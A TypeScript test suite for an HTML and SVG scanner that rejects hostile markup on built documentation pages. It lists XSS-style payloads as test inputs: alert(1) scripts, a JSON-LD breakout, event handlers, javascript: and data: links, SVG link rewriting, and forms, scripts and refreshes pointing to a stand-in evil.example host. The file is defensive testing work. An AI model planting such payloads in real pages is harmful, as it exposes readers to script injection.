import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {inlineScriptHashes, scanDocument, scanPage, scriptHash} from '../scan';

const themeScript = 'document.documentElement.setAttribute("data-theme","dark")';
const trusted = new Set([scriptHash(themeScript)]);

/** A built page as the theme emits it, with `content` inside one theme section. */
const page = (content: string, head = '') =>
  [
    '<!doctype html><html><head><meta charset=UTF-8><title>x</title>',
    '<script type=application/ld+json>{"@type":"BreadcrumbList"}</script>',
    '<link rel=stylesheet href=/assets/css/main.css><link rel=alternate type=application/atom+xml href=/roadmap/atom.xml>',
    `<meta http-equiv="refresh" content="2; url=/roadmap/new">${head}`,
    `<script src=/assets/js/main.js defer></script><script>${themeScript}</script></head><body>`,
    '<div id=__docusaurus><main><div class="theme-doc-markdown markdown"><section aria-labelledby=theme-a><h3 id=theme-a>A</h3>',
    `<p style="display: none;">ok</p>${content}</section></div></main></div></body></html>`,
  ].join('');

describe('scanPage', () => {
  it("accepts the theme's own markup", () => {
    assert.deepEqual(scanPage(page(''), trusted), []);
  });

  // Each row: what a hostile entry could leave on a page, and words the problem must say.
  const forbidden: [string, string, RegExp, string?][] = [
    ['an inline script', '<script>alert(1)</script>', /inline <script> the theme does not emit/],
    [
      'a script from elsewhere',
      '<script src=https://evil.example/x.js></script>',
      /loads script from elsewhere/,
    ],
    [
      'a data block ended early',
      '',
      /data block is not valid JSON/,
      '<script type=application/ld+json>{"name":"</script><script>alert(1)</script>',
    ],
    [
      'an event handler',
      '<img src=x.png onerror=alert(1)>',
      /onerror attribute on <img> is an inline event handler/,
    ],
    ['a javascript: link', '<a href=" javascript:alert(1)">x</a>', /runs script/],
    ['a data: page', '<a href="data:text/html,<script>alert(1)</script>">x</a>', /data: URL/],
    ['an iframe', '<iframe src=/x></iframe>', /<iframe> is on the page/],
    ['an object', '<object data=/x></object>', /<object> is on the page/],
    ['an embed', '<embed src=/x>', /<embed> is on the page/],
    ['a base', '', /<base> is on the page/, '<base href=https://evil.example/>'],
    [
      'a form posting elsewhere',
      '<form action=https://evil.example/><input></form>',
      /sends readers' input to another site/,
    ],
    ['a style element', '<style>body{display:none}</style>', /<style> is on the page/],
    ['a noscript', '<noscript><p>x</p></noscript>', /<noscript> is on the page/],
    [
      'a refresh elsewhere',
      '',
      /refresh"> leads to https:\/\/evil.example/,
      '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    ],
    [
      'another http-equiv',
      '',
      /http-equiv="set-cookie"/,
      '<meta http-equiv=set-cookie content=a=b>',
    ],
    ['a link that loads more', '', /<link rel="import"/, '<link rel=import href=/x>'],
    [
      'a style that covers the page',
      '<div style="position:fixed;inset:0;z-index:99999">x</div>',
      /style attribute on <div> can cover/,
    ],
    [
      'an SVG animation re-targeting a link',
      '<svg><a href=/ok><set attributeName=href to="javascript:alert(1)"/><text>x</text></a></svg>',
      /<set> rewrites a link/,
    ],
    ['a duplicate anchor', '<p id=theme-a>x</p>', /id="theme-a" is on the page twice/],
    [
      'an attribute on no list',
      '<img src=/img/a.png attributionsrc>',
      /attributionsrc attribute on <img> is on neither the entries' allow-list nor the theme's/,
    ],
    ['a ping', '<a href=/x ping=https://t.example/>x</a>', /ping attribute on <a> is on neither/],
    [
      'an image from another site',
      '<img src=https://evil.example/p.png fetchpriority=high>',
      /src="https:\/\/evil\.example\/p\.png" on <img> makes the browser load it from another site/,
    ],
    [
      'a srcset from another site',
      '<picture><source srcset="/a.png 1x, https://evil.example/b.png 2x"></picture>',
      /srcset="https:\/\/evil\.example\/b\.png" on <source> makes the browser load it/,
    ],
  ];
  for (const [name, content, message, head] of forbidden) {
    it(`refuses ${name}`, () => {
      const problems = scanPage(page(content, head), trusted);
      assert.ok(
        problems.some((p) => message.test(p.message)),
        `${name}: ${JSON.stringify(problems)}`,
      );
      if (content) {
        // In the body, the problem names the theme section it is in.
        assert.ok(problems.some((p) => p.theme === 'theme-a'));
      }
    });
  }

  it("leaves the site's own outside images around the content to the policy", () => {
    // A stock blog's author avatars: the Content-Security-Policy blocks them,
    // they are no entry's doing.
    const html = page('').replace(
      '<main>',
      '<main><header><img src=https://github.com/someone.png alt=""></header>',
    );
    assert.deepEqual(scanPage(html, trusted), []);
  });

  it('reads a CSS escape past Unicode as U+FFFD, without failing the scan', () => {
    assert.deepEqual(scanPage(page('<p style="color:\\110000 red">x</p>'), trusted), []);
  });

  it('gives the line of the built file', () => {
    const problems = scanPage(
      page('', '').replace('</section>', '\n\n<script>x()</script></section>'),
      trusted,
    );
    assert.deepEqual(
      problems.map((p) => p.line),
      [3],
    );
  });
});

describe('inlineScriptHashes', () => {
  it('hashes executable inline scripts only', () => {
    assert.deepEqual(inlineScriptHashes(page('')), [scriptHash(themeScript)]);
  });
});

describe('scanDocument', () => {
  it('refuses script in an SVG a browser could open as a page', () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect onload="alert(1)"/></svg>';
    assert.deepEqual(
      scanDocument(svg).map((p) => p.message),
      [
        '<script> in a file a browser can open as a page',
        'onload="alert(1)" on <rect> runs script',
      ],
    );
  });

  it('accepts a plain SVG image', () => {
    assert.deepEqual(
      scanDocument('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
      [],
    );
  });
});
